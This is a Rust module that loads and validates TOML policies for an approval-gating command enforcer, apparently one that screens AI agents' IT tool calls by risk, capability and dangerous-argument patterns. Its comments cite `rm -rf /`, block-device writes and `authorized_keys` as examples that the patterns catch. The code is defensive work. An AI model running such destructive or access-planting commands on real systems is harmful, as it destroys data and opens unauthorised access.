//! Policies are data: a TOML file loaded and validated once into a [`PolicySet`].
//!
//! Loading is the only fallible step in the enforcer. Every error names the file, the line and
//! column, and the field at fault; once a [`PolicySet`] exists, evaluation cannot fail.

use crate::analysis::Invocation;
use crate::catalogue::Catalogue;
pub use crate::category::Category;
pub use crate::error::PolicyError;
use crate::error::{line_col, toml_error};
use crate::executor::{
    check_template, is_agent_id, is_env_name, is_shell, Executor, ExecutorKind,
    DEFAULT_TIMEOUT_SECS, DEFAULT_WEBHOOK_ATTEMPTS,
};
use crate::fnv::Fnv;
use crate::mcp::{OperationSource, ToolMap, ToolMapFile};
use crate::{canonical_json, sha256_hex, Risk};
use regex::{Regex, RegexSet, RegexSetBuilder};
use serde::{Deserialize, Serialize};
use std::collections::{BTreeMap, BTreeSet, HashMap};
use std::hash::BuildHasherDefault;
use std::ops::Range;
use toml::Spanned;

/// The capabilities IT-MCP's reference note defines. A policy may declare more.
pub const BUILTIN_CAPABILITIES: [&str; 10] = [
    "local-shell",
    "local-sudo",
    "ssh-linux",
    "ssh-mac",
    "winrm",
    "system-modify",
    "service-control",
    "firewall-admin",
    "remote-exec",
    "macos-wireless",
];

/// What kind of operation argument a pattern inspects.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, PartialOrd, Ord, Serialize, Deserialize)]
#[serde(rename_all = "lowercase")]
pub enum ArgKind {
    /// A shell command line, read into commands first.
    #[default]
    Shell,
    /// A file system path.
    Path,
    /// A named option such as `force = true`.
    Flag,
}

// ---------------------------------------------------------------------------------------------
// The file format.

#[derive(Debug, Clone, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
struct PolicyFile {
    name: String,
    #[serde(default)]
    description: String,
    /// Extra capabilities beyond the built-in ten.
    #[serde(default)]
    capabilities: Vec<String>,
    #[serde(default)]
    approvals: ApprovalsFile,
    tools: BTreeMap<String, ToolFile>,
    #[serde(default)]
    patterns: Vec<PatternFile>,
    #[serde(default)]
    executors: BTreeMap<String, ExecutorFile>,
    /// Where writing is no effect (default `/tmp`, `/var/tmp`).
    #[serde(default)]
    scratch_paths: Vec<String>,
    /// The policy's own additions to the command catalogue (`policies/commands/`).
    #[serde(default)]
    groups: BTreeMap<String, Vec<String>>,
    #[serde(default)]
    commands: BTreeMap<String, crate::catalogue::EntryFile>,
    #[serde(default)]
    verbs: Option<crate::catalogue::VerbsFile>,
    #[serde(default)]
    environment: Option<crate::catalogue::EnvironmentFile>,
    #[serde(default)]
    paths: Option<crate::catalogue::PathsFile>,
    #[serde(default)]
    rulesets: BTreeMap<String, Vec<crate::catalogue::RuleFile>>,
    /// How MCP tool servers' tools map onto the tools above (`crate::mcp`). Left out of the
    /// hash's input when empty, so policies without it keep their hashes.
    #[serde(default, skip_serializing_if = "crate::mcp::McpFile::is_empty")]
    mcp: crate::mcp::McpFile,
    /// `enforce` (the default) or `shadow` for every tool that does not say (see [`Mode`]).
    /// Left out of the hash's input when not given, like the per-tool and per-operation ones.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    mode: Option<Mode>,
}

#[derive(Debug, Clone, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
struct ExecutorFile {
    kind: Spanned<String>,
    #[serde(default)]
    description: String,
    #[serde(default)]
    argv: Vec<String>,
    #[serde(default)]
    shell: bool,
    timeout: Option<Spanned<String>>,
    #[serde(default)]
    env: Vec<String>,
    workdir: Option<String>,
    agent: Option<String>,
    url: Option<String>,
    secret_env: Option<String>,
    attempts: Option<u32>,
}

#[derive(Debug, Clone, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
struct ApprovalsFile {
    #[serde(default = "default_approver_role")]
    approver_role: String,
    #[serde(default)]
    risk: BTreeMap<Risk, RiskRuleFile>,
    /// Categories whose effects are never remembered (standing grants); left out of the hash's
    /// input when not given, so policies without it keep their hashes.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    never_remember: Option<BTreeSet<Category>>,
}

impl Default for ApprovalsFile {
    fn default() -> Self {
        ApprovalsFile {
            approver_role: default_approver_role(),
            risk: BTreeMap::new(),
            never_remember: None,
        }
    }
}

/// What is never remembered unless a policy says otherwise: deleting data, writing to block
/// devices, gaining privileges, running code from elsewhere, and touching secrets.
pub const DEFAULT_NEVER_REMEMBER: [Category; 5] = [
    Category::Destructive,
    Category::DeviceWrite,
    Category::PrivilegeEscalation,
    Category::RemoteCodeExecution,
    Category::Secrets,
];

fn default_approver_role() -> String {
    "approver".to_string()
}

#[derive(Debug, Clone, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
struct RiskRuleFile {
    quorum: Option<Spanned<u32>>,
    request_ttl: Option<Spanned<String>>,
    approval_window: Option<Spanned<String>>,
}

#[derive(Debug, Clone, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
struct ToolFile {
    #[serde(default)]
    description: String,
    operations: BTreeMap<String, OperationFile>,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    mode: Option<Mode>,
}

#[derive(Debug, Clone, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
struct OperationFile {
    risk: Risk,
    requires: Vec<Spanned<String>>,
    #[serde(default)]
    description: String,
    #[serde(default)]
    interactive_only: bool,
    #[serde(default)]
    shell_args: Vec<String>,
    #[serde(default)]
    path_args: Vec<String>,
    #[serde(default)]
    flag_args: Vec<String>,
    #[serde(default)]
    executor: Option<Spanned<String>>,
    #[serde(default)]
    unknown_commands: UnknownCommands,
    #[serde(default)]
    effects: Effects,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    mode: Option<Mode>,
}

/// Whether an operation's decisions hold calls for people (`enforce`) or only record what they
/// would have held (`shadow`): a rollout decides in shadow first and switches to enforce with
/// the figures in hand. Shadow mode only ever turns `require_approval` into `allow` (noting
/// `would_block`); it never allows what is denied (unknown tools and operations, missing
/// capabilities, malformed arguments), an interactive-only operation, or a CRITICAL call
/// (`rm -rf /` raised by its pattern included): those always ask.
/// An operation's own `mode` wins over its tool's, which wins over the policy's.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum Mode {
    #[default]
    Enforce,
    Shadow,
}

/// What an operation does with a command the catalogue does not know.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum UnknownCommands {
    /// Decide as if the command were harmless (IT-MCP's own enforcer).
    #[default]
    Allow,
    /// Ask a person: Countersign does not know what the command does.
    RequireApproval,
}

/// What an operation does with the effects the catalogue finds (writes, restarts, ...).
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum Effects {
    /// Show them in the decision; only patterns, sudo and force flags ask (IT-MCP's rule).
    #[default]
    Report,
    /// Any effect asks for approval.
    RequireApproval,
}

#[derive(Debug, Clone, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
struct PatternFile {
    id: Spanned<String>,
    category: Category,
    description: String,
    #[serde(default)]
    applies_to: ArgKind,
    #[serde(default)]
    commands: Vec<String>,
    #[serde(default)]
    flags: Vec<String>,
    #[serde(default)]
    any_flags: Vec<String>,
    #[serde(default)]
    flag_aliases: BTreeMap<String, String>,
    args: Option<Spanned<String>>,
    redirect: Option<Spanned<String>>,
    #[serde(default)]
    piped_from: Vec<String>,
    value: Option<Spanned<String>>,
    escalate: Option<Risk>,
}

// ---------------------------------------------------------------------------------------------
// The compiled form.

/// One operation of a tool, as the policy describes it.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct Operation {
    pub risk: Risk,
    pub requires: BTreeSet<String>,
    pub description: String,
    pub interactive_only: bool,
    pub shell_args: Vec<String>,
    pub path_args: Vec<String>,
    pub flag_args: Vec<String>,
    pub executor: Option<String>,
    pub unknown_commands: UnknownCommands,
    pub effects: Effects,
    /// The mode in force for the operation (its own, its tool's or the policy's).
    pub mode: Mode,
}

#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct Tool {
    pub description: String,
    pub operations: BTreeMap<String, Operation>,
}

/// How approvals work for one risk level.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize)]
pub struct RiskRule {
    /// Distinct approvers needed.
    pub quorum: u32,
    /// How long a request may wait for approval before it expires.
    pub request_ttl_secs: u64,
    /// How long an approved job may wait to be executed before it expires.
    pub approval_window_secs: u64,
}

#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct ApprovalRules {
    pub approver_role: String,
    pub by_risk: BTreeMap<Risk, RiskRule>,
    /// Categories of effect a standing grant never covers (`approvals.never_remember`).
    pub never_remember: BTreeSet<Category>,
}

impl ApprovalRules {
    /// The rule for a risk level (every level has one after loading).
    pub fn for_risk(&self, risk: Risk) -> RiskRule {
        self.by_risk
            .get(&risk)
            .copied()
            .unwrap_or_else(|| default_rule(risk))
    }
}

fn default_rule(risk: Risk) -> RiskRule {
    match risk {
        Risk::Critical => RiskRule {
            quorum: 2,
            request_ttl_secs: 3_600,
            approval_window_secs: 900,
        },
        Risk::High => RiskRule {
            quorum: 1,
            request_ttl_secs: 4 * 3_600,
            approval_window_secs: 3_600,
        },
        Risk::Medium | Risk::Low => RiskRule {
            quorum: 1,
            request_ttl_secs: 24 * 3_600,
            approval_window_secs: 4 * 3_600,
        },
    }
}

/// A dangerous-argument pattern, compiled.
#[derive(Debug, Clone, Serialize)]
pub struct Pattern {
    pub id: String,
    pub category: Category,
    pub description: String,
    pub applies_to: ArgKind,
    pub commands: Vec<String>,
    pub flags: Vec<String>,
    pub any_flags: Vec<String>,
    pub flag_aliases: BTreeMap<String, String>,
    pub args: Option<String>,
    pub redirect: Option<String>,
    pub piped_from: Vec<String>,
    pub value: Option<String>,
    pub escalate: Option<Risk>,
    #[serde(skip)]
    pub(crate) redirect_re: Option<Matcher>,
    /// `args`, compiled: checked only for the invocations this pattern is a candidate for.
    #[serde(skip)]
    pub(crate) args_re: Option<Matcher>,
    /// `flags` and `any_flags` with `flag_aliases` applied, compiled (`None` without flags).
    #[serde(skip)]
    pub(crate) flag_rule: Option<FlagRule>,
}

/// A compiled regular expression with a cheap test in front of it. Each top-level branch of
/// the regex (`a|b`) gets a condition that every match of that branch meets: anchored at the
/// start (`^/dev/(sd|hd)`), the text starts with one of a few literals; anchored at the end
/// (`authorized_keys$`), it ends with one; otherwise it contains a literal that the branch
/// cannot match without (`-delete` in `(^|\s)-delete(\s|$)`). A text that meets no branch's
/// condition cannot match, and the regex does not run. When some branch has no such condition,
/// the regex always runs.
#[derive(Debug, Clone)]
pub(crate) struct Matcher {
    regex: Regex,
    branches: Option<Vec<Branch>>,
}

/// What every match of one branch of a regex must meet.
#[derive(Debug, Clone)]
enum Branch {
    StartsWith(Literals),
    EndsWith(Literals),
    Contains(Box<memchr::memmem::Finder<'static>>),
}

/// Literals a text must start (or end) with one of, and the part they all share there
/// (`/dev/` of `/dev/sd`, `/dev/hd`, ...), compared first: most texts fail on it at once.
#[derive(Debug, Clone)]
struct Literals {
    shared: Box<[u8]>,
    all: Vec<Box<[u8]>>,
}

impl Literals {
    fn new(all: Vec<Box<[u8]>>, at_start: bool) -> Self {
        let shared_len = |a: &[u8], b: &[u8]| {
            if at_start {
                a.iter().zip(b).take_while(|(x, y)| x == y).count()
            } else {
                a.iter()
                    .rev()
                    .zip(b.iter().rev())
                    .take_while(|(x, y)| x == y)
                    .count()
            }
        };
        let first: &[u8] = all.first().map_or(&[], |first| first);
        let len = all.iter().map(|l| shared_len(first, l)).min().unwrap_or(0);
        let shared = if at_start {
            first.get(..len)
        } else {
            first.get(first.len() - len..)
        };
        Literals {
            shared: shared.unwrap_or_default().into(),
            all,
        }
    }

    fn starts(&self, text: &[u8]) -> bool {
        bytes_start(text, &self.shared) && self.all.iter().any(|l| bytes_start(text, l))
    }

    fn ends(&self, text: &[u8]) -> bool {
        bytes_end(text, &self.shared) && self.all.iter().any(|l| bytes_end(text, l))
    }
}

/// `text.starts_with(part)` for the short parts here, without a call to `memcmp` each.
fn bytes_start(text: &[u8], part: &[u8]) -> bool {
    part.len() <= text.len() && part.iter().zip(text).all(|(a, b)| a == b)
}

/// `text.ends_with(part)`, as [`bytes_start`].
fn bytes_end(text: &[u8], part: &[u8]) -> bool {
    part.len() <= text.len()
        && part
            .iter()
            .rev()
            .zip(text.iter().rev())
            .all(|(a, b)| a == b)
}

impl Branch {
    fn of(hir: &regex_syntax::hir::Hir) -> Option<Branch> {
        use regex_syntax::hir::literal::{ExtractKind, Extractor};
        use regex_syntax::hir::{HirKind, Look};
        let literals = |kind| {
            Extractor::new()
                .kind(kind)
                .extract(hir)
                .literals()
                .map(|all| {
                    all.iter()
                        .map(|literal| Box::<[u8]>::from(literal.as_bytes()))
                        .collect::<Vec<_>>()
                })
        };
        let properties = hir.properties();
        if properties.look_set_prefix().contains(Look::Start) {
            if let Some(all) = literals(ExtractKind::Prefix) {
                return Some(Branch::StartsWith(Literals::new(all, true)));
            }
        }
        if properties.look_set_suffix().contains(Look::End) {
            if let Some(all) = literals(ExtractKind::Suffix) {
                return Some(Branch::EndsWith(Literals::new(all, false)));
            }
        }
        // A literal directly in the branch's sequence is part of every match of it.
        let parts = match hir.kind() {
            HirKind::Concat(parts) => parts.as_slice(),
            _ => std::slice::from_ref(hir),
        };
        parts
            .iter()
            .filter_map(|part| match part.kind() {
                HirKind::Literal(literal) => Some(&literal.0),
                _ => None,
            })
            .max_by_key(|bytes| bytes.len())
            .filter(|bytes| bytes.len() >= 2)
            .map(|bytes| {
                Branch::Contains(Box::new(memchr::memmem::Finder::new(bytes).into_owned()))
            })
    }

    fn may_match(&self, text: &[u8]) -> bool {
        match self {
            Branch::StartsWith(literals) => literals.starts(text),
            Branch::EndsWith(literals) => literals.ends(text),
            Branch::Contains(finder) => finder.find(text).is_some(),
        }
    }
}

impl Matcher {
    fn new(regex: Regex) -> Self {
        use regex_syntax::hir::HirKind;
        // `regex` parses with these same defaults; should the parse fail, there is no shortcut.
        let branches = regex_syntax::Parser::new()
            .parse(regex.as_str())
            .ok()
            .and_then(|hir| match hir.kind() {
                HirKind::Alternation(branches) => branches.iter().map(Branch::of).collect(),
                _ => Branch::of(&hir).map(|branch| vec![branch]),
            });
        Matcher { regex, branches }
    }

    pub(crate) fn is_match(&self, text: &str) -> bool {
        if let Some(branches) = &self.branches {
            let bytes = text.as_bytes();
            if !branches.iter().any(|branch| branch.may_match(bytes)) {
                return false;
            }
        }
        self.regex.is_match(text)
    }
}

/// A pattern's flag conditions, compiled: every flag of `all` and, when `any` is not empty, one
/// of `any`.
#[derive(Debug, Clone)]
pub(crate) struct FlagRule {
    all: Vec<WantedFlag>,
    any: Vec<WantedFlag>,
    /// Every short letter of `all` and `any`: without one of these or a long flag some pattern
    /// looks for, the rule cannot match.
    short_union: u64,
}

/// The spellings that give one canonical flag: short letters as a bit mask, long names as
/// their ids in the policy's [`LongFlags`].
#[derive(Debug, Clone)]
struct WantedFlag {
    short: u64,
    long: Vec<u32>,
}

/// Every long flag name some pattern looks for (lowercased), each with a small id, so that an
/// invocation's long flags are looked up once each and patterns compare ids.
#[derive(Debug, Clone)]
pub(crate) struct LongFlags {
    ids: HashMap<String, u32, BuildHasherDefault<Fnv>>,
    longest: usize,
    /// Per first byte of the names, a bit per length (bit 31 for 31 and longer): most flags
    /// are rejected on this before any hashing (`-name` when no name of 4 bytes starts with
    /// `n`).
    lengths: [u32; 256],
}

impl Default for LongFlags {
    fn default() -> Self {
        LongFlags {
            ids: HashMap::default(),
            longest: 0,
            lengths: [0; 256],
        }
    }
}

/// The bit of a name's length in [`LongFlags`]'s `lengths`.
fn length_bit(len: usize) -> u32 {
    1 << len.min(31)
}

impl LongFlags {
    fn id(&mut self, spelling: &str) -> u32 {
        self.longest = self.longest.max(spelling.len());
        if let Some(&b) = spelling.as_bytes().first() {
            // Spellings are lower case; a flag is looked up ignoring ASCII case.
            let bit = length_bit(spelling.len());
            self.lengths[usize::from(b)] |= bit;
            self.lengths[usize::from(b.to_ascii_uppercase())] |= bit;
        }
        let next = u32::try_from(self.ids.len()).unwrap_or(u32::MAX);
        *self.ids.entry(spelling.to_string()).or_insert(next)
    }

    /// The id of a long flag as written, ignoring ASCII case, if any pattern looks for it.
    fn find(&self, name: &str) -> Option<u32> {
        let first = name.as_bytes().first().copied().unwrap_or(0);
        if name.len() > self.longest
            || self.lengths[usize::from(first)] & length_bit(name.len()) == 0
        {
            return None;
        }
        if name.bytes().any(|b| b.is_ascii_uppercase()) {
            // `-Force`, `-Recurse`: PowerShell's spelling, rare enough to lowercase a copy.
            return self.ids.get(&name.to_ascii_lowercase()).copied();
        }
        self.ids.get(name).copied()
    }
}

/// An invocation's flags as the patterns see them: short letters as a bit mask, and the ids of
/// the long flags that some pattern looks for.
#[derive(Debug, Clone, Default)]
pub(crate) struct InvocationFlags {
    short: u64,
    long: Vec<u32>,
}

impl InvocationFlags {
    /// Read `invocation`'s flags (clearing what was read before).
    pub(crate) fn read(&mut self, invocation: &Invocation<'_>, policy: &PolicySet) {
        self.short = 0;
        self.long.clear();
        invocation.for_each_flag(|short, long| {
            self.short |= short;
            if let Some(id) = long.and_then(|l| policy.long_flags.find(l)) {
                self.long.push(id);
            }
        });
    }
}

impl FlagRule {
    fn compile(
        all: &[String],
        any: &[String],
        aliases: &BTreeMap<String, String>,
        long_flags: &mut LongFlags,
    ) -> Option<Self> {
        if all.is_empty() && any.is_empty() {
            return None;
        }
        let mut wanted = |flags: &[String]| -> Vec<WantedFlag> {
            flags
                .iter()
                .map(|w| WantedFlag::compile(w, aliases, long_flags))
                .collect()
        };
        let (all, any) = (wanted(all), wanted(any));
        let short_union = all.iter().chain(&any).fold(0, |mask, w| mask | w.short);
        Some(FlagRule {
            all,
            any,
            short_union,
        })
    }

    /// Whether an invocation's flags meet the rule.
    pub(crate) fn matches(&self, flags: &InvocationFlags) -> bool {
        if flags.short & self.short_union == 0 && flags.long.is_empty() {
            return false;
        }
        self.all.iter().all(|w| w.present(flags))
            && (self.any.is_empty() || self.any.iter().any(|w| w.present(flags)))
    }
}

impl WantedFlag {
    /// A spelling names the canonical flag `wanted` when an alias maps it there, or when it has
    /// no alias and is `wanted` itself. Long flags are lowercased before they are looked up, so
    /// a spelling with upper-case letters never matches one.
    fn compile(
        wanted: &str,
        aliases: &BTreeMap<String, String>,
        long_flags: &mut LongFlags,
    ) -> Self {
        let names = |spelling: &str| match aliases.get(spelling) {
            Some(canonical) => canonical == wanted,
            None => spelling == wanted,
        };
        let short = crate::analysis::short_mask(
            ('0'..='9')
                .chain('A'..='Z')
                .chain('a'..='z')
                .filter(|c| names(c.encode_utf8(&mut [0; 4]))),
        );
        let mut long: Vec<u32> = aliases
            .keys()
            .map(String::as_str)
            .chain([wanted])
            .filter(|s| !s.bytes().any(|b| b.is_ascii_uppercase()) && names(s))
            .map(|s| long_flags.id(s))
            .collect();
        long.sort_unstable();
        long.dedup();
        WantedFlag { short, long }
    }

    fn present(&self, flags: &InvocationFlags) -> bool {
        flags.short & self.short != 0 || flags.long.iter().any(|id| self.long.contains(id))
    }
}

/// The shell patterns that may match one command name, by index, in pattern order, as four
/// lists: for invocations with or without redirections, and with or without flags. A pattern
/// that needs a redirection (a `redirect` rule) or a flag (`flags`, `any_flags`) cannot match
/// an invocation without one, and is left out of those lists: most invocations skip the
/// redirection and force-flag patterns that apply to every command without looking at them.
#[derive(Debug, Clone, Default)]
pub(crate) struct Candidates {
    /// Indexed by `redirected as usize | (flagged as usize) << 1`.
    lists: [Vec<usize>; 4],
}

impl Candidates {
    fn new(all: &[usize], patterns: &[Pattern]) -> Self {
        let list = |redirected: bool, flagged: bool| {
            all.iter()
                .copied()
                .filter(|&i| {
                    patterns.get(i).is_some_and(|p| {
                        (redirected || p.redirect_re.is_none())
                            && (flagged || p.flag_rule.is_none())
                    })
                })
                .collect()
        };
        Candidates {
            lists: [
                list(false, false),
                list(true, false),
                list(false, true),
                list(true, true),
            ],
        }
    }

    /// The candidates for an invocation with or without redirections, and with or without
    /// arguments that start with `-`.
    pub(crate) fn for_invocation(&self, redirected: bool, flagged: bool) -> &[usize] {
        let index = usize::from(redirected) | usize::from(flagged) << 1;
        self.lists.get(index).map_or(&[], Vec::as_slice)
    }
}

/// A loaded, validated policy. Cheap to share; evaluation only reads it.
#[derive(Debug, Clone)]
pub struct PolicySet {
    pub name: String,
    pub description: String,
    pub capabilities: BTreeSet<String>,
    pub tools: BTreeMap<String, Tool>,
    pub patterns: Vec<Pattern>,
    pub approvals: ApprovalRules,
    /// How approved jobs run, by name (operations name one).
    pub executors: BTreeMap<String, Executor>,
    /// What commands do: the built-in catalogue with the policy's additions.
    pub catalogue: std::sync::Arc<Catalogue>,
    /// MCP tool servers' tools, by upstream name (`[mcp.upstreams.NAME]`).
    pub mcp: BTreeMap<String, crate::mcp::UpstreamPolicy>,
    hash: String,
    /// Where it was loaded from and its text (the portal hands it to the browser's enforcer).
    file: String,
    source: String,
    /// Shell patterns by exact command name (the `*` patterns included, sorted, so a lookup
    /// is the whole candidate list); `mkfs.*`-style prefixes; `*` patterns.
    pub(crate) by_command: ByCommand,
    pub(crate) by_prefix: Vec<(String, usize)>,
    pub(crate) any_command: Candidates,
    /// The long flag names the shell patterns look for.
    pub(crate) long_flags: LongFlags,
    /// The patterns that raise an operation's risk, by id (a handful of all the patterns).
    pub(crate) escalating: Vec<(String, Risk)>,
    /// `args` regexes of shell patterns, one set: pattern index per member.
    /// `value` regexes of path patterns.
    pub(crate) path_set: RegexSet,
    pub(crate) path_owner: Vec<usize>,
    /// `value` regexes of flag patterns (matched against the argument's name).
    pub(crate) flag_set: RegexSet,
    pub(crate) flag_owner: Vec<usize>,
}

impl PolicySet {
    /// Parse and validate a policy. `file` names the source in error messages.
    pub fn load(file: &str, source: &str) -> Result<PolicySet, PolicyError> {
        let parsed: PolicyFile =
            toml::from_str(source).map_err(|e| toml_error(file, source, &e))?;
        compile(file, source, parsed)
    }

    /// SHA-256 of the policy's canonical content (formatting and comments do not change it).
    pub fn hash(&self) -> &str {
        &self.hash
    }

    /// The name it was loaded under (a file path).
    pub fn file(&self) -> &str {
        &self.file
    }

    /// The policy's text, exactly as loaded.
    pub fn source(&self) -> &str {
        &self.source
    }

    pub fn operation(&self, tool: &str, operation: &str) -> Option<&Operation> {
        self.tools
            .get(tool)
            .and_then(|t| t.operations.get(operation))
    }

    /// The executor an operation names, if any.
    pub fn executor_for(&self, tool: &str, operation: &str) -> Option<&Executor> {
        self.operation(tool, operation)
            .and_then(|op| op.executor.as_deref())
            .and_then(|name| self.executors.get(name))
    }
}

struct Ctx<'a> {
    file: &'a str,
    source: &'a str,
}

impl Ctx<'_> {
    fn err(
        &self,
        span: Option<Range<usize>>,
        field: String,
        message: impl Into<String>,
    ) -> PolicyError {
        let (line, column) = span.map_or((0, 0), |s| line_col(self.source, s.start));
        PolicyError {
            file: self.file.to_string(),
            line,
            column,
            field: Some(field),
            message: message.into(),
        }
    }

    /// Best-effort position of a key for errors about values without spans of their own.
    fn find(&self, needle: &str) -> Option<Range<usize>> {
        self.source
            .find(needle)
            .map(|start| start..start + needle.len())
    }

    fn regex(&self, value: &Spanned<String>, field: String) -> Result<Regex, PolicyError> {
        Regex::new(value.get_ref()).map_err(|e| {
            self.err(
                Some(value.span()),
                field,
                format!("invalid regular expression: {e}"),
            )
        })
    }
}

/// Compile a parsed policy file, phase by phase: its hash, the command catalogue it extends,
/// capabilities, executors, tools, approval rules, patterns, and the index that finds the
/// patterns for a command.
fn compile(file: &str, source: &str, parsed: PolicyFile) -> Result<PolicySet, PolicyError> {
    let ctx = Ctx { file, source };
    let hash = policy_hash(&parsed);
    let catalogue =
        Catalogue::for_policy(file, catalogue_extension(&parsed), &parsed.scratch_paths)?;
    if parsed.name.trim().is_empty() {
        return Err(ctx.err(ctx.find("name"), "name".into(), "must not be empty"));
    }
    let capabilities = compile_capabilities(&ctx, &parsed.capabilities)?;
    let executors = compile_executors(&ctx, &parsed.executors)?;
    let mode = parsed.mode.unwrap_or_default();
    let tools = compile_tools(&ctx, parsed.tools, mode, &capabilities, &executors)?;
    let mcp = compile_mcp(&ctx, &parsed.mcp, &tools)?;
    let by_risk = compile_approvals(&ctx, &parsed.approvals)?;
    let compiled = compile_patterns(&ctx, parsed.patterns)?;
    let CompiledPatterns {
        patterns,
        long_flags,
        path_res,
        path_owner,
        flag_res,
        flag_owner,
    } = compiled;
    let set = |res: &[String], what: &str| {
        RegexSetBuilder::new(res).build().map_err(|e| PolicyError {
            file: file.to_string(),
            line: 0,
            column: 0,
            field: Some(format!("patterns ({what})")),
            message: e.to_string(),
        })
    };
    let (by_command, by_prefix, any_command) = index_by_command(&patterns);
    Ok(PolicySet {
        escalating: patterns
            .iter()
            .filter_map(|p| p.escalate.map(|risk| (p.id.clone(), risk)))
            .collect(),
        long_flags,
        by_command,
        by_prefix,
        any_command,
        name: parsed.name,
        description: parsed.description,
        capabilities,
        tools,
        approvals: ApprovalRules {
            approver_role: parsed.approvals.approver_role,
            by_risk,
            never_remember: parsed
                .approvals
                .never_remember
                .unwrap_or_else(|| DEFAULT_NEVER_REMEMBER.into_iter().collect()),
        },

        path_set: set(&path_res, "path values")?,
        path_owner,
        flag_set: set(&flag_res, "flag values")?,
        flag_owner,
        patterns,
        executors,
        catalogue,
        mcp,
        hash,
        file: file.to_string(),
        source: source.to_string(),
    })
}

/// The policy's content hash. The built-in command catalogue decides too, so its files are part
/// of it.
fn policy_hash(parsed: &PolicyFile) -> String {
    let file = serde_json::to_value(parsed)
        .expect("a parsed policy file is plain data and always serialises");
    sha256_hex(
        format!(
            "{}\n{}",
            canonical_json(&file),
            crate::catalogue::builtin_hash()
        )
        .as_bytes(),
    )
}

/// What a policy adds to (or replaces in) the built-in command catalogue, if anything.
fn catalogue_extension(parsed: &PolicyFile) -> Option<crate::catalogue::CatalogueFile> {
    (!parsed.groups.is_empty()
        || !parsed.commands.is_empty()
        || parsed.verbs.is_some()
        || parsed.environment.is_some()
        || parsed.paths.is_some()
        || !parsed.rulesets.is_empty())
    .then(|| crate::catalogue::CatalogueFile {
        groups: parsed.groups.clone(),
        commands: parsed.commands.clone(),
        verbs: parsed.verbs.clone(),
        environment: parsed.environment.clone(),
        paths: parsed.paths.clone(),
        rulesets: parsed.rulesets.clone(),
    })
}

/// The MCP tables: every mapping names a tool and operation the policy has.
fn compile_mcp(
    ctx: &Ctx<'_>,
    file: &crate::mcp::McpFile,
    tools: &BTreeMap<String, Tool>,
) -> Result<BTreeMap<String, crate::mcp::UpstreamPolicy>, PolicyError> {
    let mut out = BTreeMap::new();
    for (upstream, table) in &file.upstreams {
        let compile = |name: &str, map: &crate::mcp::ToolMapFile, key: String| {
            compile_tool_map(map, tools).map_err(|(setting, message)| {
                ctx.err(
                    ctx.find(&map.tool),
                    format!("{key}.{setting}"),
                    format!("MCP tool `{name}`: {message}"),
                )
            })
        };
        let mut policy = crate::mcp::UpstreamPolicy::default();
        for (name, map) in &table.tools {
            let key = format!("mcp.upstreams.{upstream}.tools.{name}");
            policy.tools.insert(name.clone(), compile(name, map, key)?);
        }
        if let Some(map) = &table.unknown_tools {
            let key = format!("mcp.upstreams.{upstream}.unknown_tools");
            policy.unknown_tools = Some(compile("(unknown tools)", map, key)?);
        }
        out.insert(upstream.clone(), policy);
    }
    Ok(out)
}

/// Check one `[mcp.upstreams.U.tools.T]` table against the policy's tools. `Err` is the
/// setting at fault and why.
fn compile_tool_map(
    file: &ToolMapFile,
    tools: &BTreeMap<String, Tool>,
) -> Result<ToolMap, (&'static str, String)> {
    let Some(tool) = tools.get(&file.tool) else {
        return Err((
            "tool",
            format!(
                "names the tool `{}`, which the policy does not have",
                file.tool
            ),
        ));
    };
    let operation = match (&file.operation, &file.operation_arg) {
        (Some(op), None) => {
            if !tool.operations.contains_key(op) {
                return Err((
                    "operation",
                    format!("names `{op}`, which the tool `{}` does not have", file.tool),
                ));
            }
            OperationSource::Fixed(op.clone())
        }
        (None, Some(arg)) if !arg.trim().is_empty() => OperationSource::Argument(arg.clone()),
        (Some(_), Some(_)) => {
            return Err((
                "operation",
                "give `operation` or `operation_arg`, not both".into(),
            ))
        }
        _ => {
            return Err((
                "operation",
                "say which operation this is: `operation = \"NAME\"`, or `operation_arg = \"ARGUMENT\"` when an argument carries it".into(),
            ))
        }
    };
    Ok(ToolMap {
        tool: file.tool.clone(),
        operation,
        target_arg: file.target_arg.clone().filter(|a| !a.trim().is_empty()),
        rename: file.args.clone(),
    })
}

/// The built-in capabilities and the policy's own (each a valid name).
fn compile_capabilities(ctx: &Ctx<'_>, extra: &[String]) -> Result<BTreeSet<String>, PolicyError> {
    let mut capabilities: BTreeSet<String> =
        BUILTIN_CAPABILITIES.iter().map(|c| c.to_string()).collect();
    for extra in extra {
        if !is_identifier(extra) {
            return Err(ctx.err(ctx.find(extra), "capabilities".into(), format!("`{extra}` is not a valid capability name (lowercase letters, digits and dashes)")));
        }
        capabilities.insert(extra.clone());
    }
    Ok(capabilities)
}

/// The tools and their operations: every capability known, every argument of one kind, every
/// executor defined.
fn compile_tools(
    ctx: &Ctx<'_>,
    parsed_tools: BTreeMap<String, ToolFile>,
    policy_mode: Mode,
    capabilities: &BTreeSet<String>,
    executors: &BTreeMap<String, Executor>,
) -> Result<BTreeMap<String, Tool>, PolicyError> {
    let mut tools = BTreeMap::new();
    if parsed_tools.is_empty() {
        return Err(ctx.err(
            None,
            "tools".into(),
            "a policy must describe at least one tool",
        ));
    }
    for (tool_name, tool) in parsed_tools {
        if tool.operations.is_empty() {
            return Err(ctx.err(
                ctx.find(&tool_name),
                format!("tools.{tool_name}.operations"),
                "a tool needs at least one operation",
            ));
        }
